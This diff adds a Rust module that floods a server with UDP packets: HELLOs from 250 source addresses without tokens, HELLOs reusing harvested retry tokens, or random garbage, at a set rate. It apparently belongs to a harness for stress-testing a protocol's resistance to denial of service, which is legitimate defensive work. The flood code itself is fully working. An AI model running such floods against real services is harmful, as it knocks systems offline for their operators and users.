@@ -1,0 +1,135 @@
+//! Floods of packets that are written by hand, from whoever knows an address and nothing else.
+
+use std::io;
+use std::net::{SocketAddr, UdpSocket};
+use std::time::{Duration, Instant};
+
+use sss_wire::long::{self, Long};
+
+use crate::error::AttackError;
+use crate::tally::Tally;
+use crate::victim::Victim;
+
+/// Addresses of a flood, where there are so many.
+const SOURCES: u16 = 250;
+/// Pause between two bursts of a flood.
+const PAUSE: Duration = Duration::from_millis(2);
+/// HELLOs with one token, before another one is taken.
+const USES: u64 = 8;
+/// Tokens that a source keeps.
+const TOKENS: usize = 64;
+/// Longest packet of random bytes.
+const LONGEST: usize = 1400;
+
+/// Packets of a flood.
+#[derive(Clone, Copy, Debug)]
+pub(crate) enum Flood {
+    /// HELLOs without tokens: whoever makes up addresses has none.
+    Spoofed,
+    /// HELLOs with tokens.
+    Proven,
+    /// Random bytes behind each first byte.
+    Garbage,
+}
+
+struct Source {
+    socket: UdpSocket,
+    tokens: Vec<([u8; 8], [u8; 16])>,
+    next: u64,
+}
+
+impl Source {
+    fn new(victim: &Victim, host: u16) -> io::Result<Self> {
+        let socket = UdpSocket::bind(victim.target.source(66, host))?;
+        socket.set_nonblocking(true)?;
+        let (tokens, next) = (Vec::new(), u64::from(host) << 40);
+        Ok(Self { socket, tokens, next })
+    }
+
+    fn hello(&mut self, flood: Flood, packet: &mut [u8]) {
+        self.next += 1;
+        // One HELLO in so many asks for the next token.
+        let is_proven = matches!(flood, Flood::Proven) && !self.next.is_multiple_of(USES + 1);
+        let known = self.tokens.last().copied().filter(|_| is_proven);
+        let (attempt, token) = known.unwrap_or((self.next.to_be_bytes(), [0; 16]));
+        let fields = attempt.iter().chain(&token);
+        packet.iter_mut().skip(5).zip(fields).for_each(|(to, from)| *to = *from);
+    }
+
+    /// Takes the answers that have come, and their tokens.
+    fn read(&mut self, tally: &Tally) {
+        let mut packet = [0; 2048];
+        while let Ok(n) = self.socket.recv(&mut packet) {
+            tally.answered(n);
+            if let Some(Ok(Long::Retry(retry))) = packet.get(..n).map(Long::parse) {
+                self.tokens.push((*retry.attempt, *retry.token));
+            }
+        }
+        let old = self.tokens.len().saturating_sub(TOKENS);
+        self.tokens.drain(..old);
+    }
+
+    fn send(&self, packet: &[u8], to: SocketAddr, tally: &Tally) {
+        // What the system has no room for is not sent: so are floods.
+        if self.socket.send_to(packet, to).is_ok() {
+            tally.sent(packet.len());
+        }
+    }
+}
+
+/// Random bytes, of which pieces are sent behind each first byte.
+struct Garbage {
+    noise: Vec<u8>,
+    turn: usize,
+}
+
+impl Garbage {
+    fn new() -> Self {
+        let mut noise = vec![0; 64 * LONGEST];
+        // Without entropy, zeros are garbage as well.
+        let _ = getrandom::fill(&mut noise);
+        Self { noise, turn: 0 }
+    }
+
+    fn next(&mut self, packet: &mut Vec<u8>) {
+        self.turn = self.turn.wrapping_add(7919);
+        let at = self.turn % (self.noise.len() - LONGEST);
+        let len = 1 + self.turn % LONGEST;
+        packet.clear();
+        packet.extend(self.noise.iter().skip(at).take(len));
+        // Half of them have the first byte and version of a long packet.
+        if self.turn.is_multiple_of(2) {
+            let first = u8::try_from(0x80 + self.turn / 2 % 12).unwrap_or(0x80);
+            let head = [first, 0, 0, 0, 1];
+            packet.iter_mut().zip(head).for_each(|(to, from)| *to = from);
+        }
+    }
+}
+
+/// Floods the target for so long.
+pub(crate) fn run(flood: Flood, victim: &Victim, time: Duration, tally: &Tally) -> Result<(), AttackError> {
+    let sources: io::Result<Vec<Source>> = (1..=SOURCES).map(|host| Source::new(victim, host)).collect();
+    let mut sources = sources?;
+    let mut packet = long::hello(1, &[0; 8], &[0; 16], &[9; long::HELLO_SIZE - 29]);
+    let mut garbage = Garbage::new();
+    let (begun, mut done, mut at) = (Instant::now(), 0_u64, 0);
+    while begun.elapsed() < time {
+        let due = begun.elapsed().as_secs_f64() * f64::from(victim.rate);
+        // What the machine had no time for is not made up for.
+        let most = (f64::from(victim.rate) * PAUSE.as_secs_f64() * 4.0).max(1.0);
+        let burst = (due - done as f64).clamp(0.0, most);
+        done = due as u64;
+        for _ in 0..burst.ceil() as u64 {
+            at = (at + 1) % sources.len();
+            let Some(source) = sources.get_mut(at) else { continue };
+            match flood {
+                Flood::Garbage => garbage.next(&mut packet),
+                Flood::Spoofed | Flood::Proven => source.hello(flood, &mut packet),
+            }
+            source.send(&packet, victim.target.address, tally);
+        }
+        sources.iter_mut().for_each(|source| source.read(tally));
+        std::thread::sleep(PAUSE);
+    }
+    Ok(())
+}
